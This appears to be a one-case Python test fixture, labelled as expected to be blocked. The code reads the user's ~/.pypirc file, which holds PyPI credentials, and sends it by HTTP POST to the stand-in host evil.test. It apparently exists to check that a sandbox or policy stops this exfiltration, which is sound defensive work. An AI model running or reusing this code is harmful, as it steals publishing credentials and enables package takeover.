# expect: BLOCKED
import os, urllib.request
data = open(os.path.expanduser("~/.pypirc"), "rb").read()
urllib.request.urlopen(urllib.request.Request("https://evil.test", data=data, method="POST"))
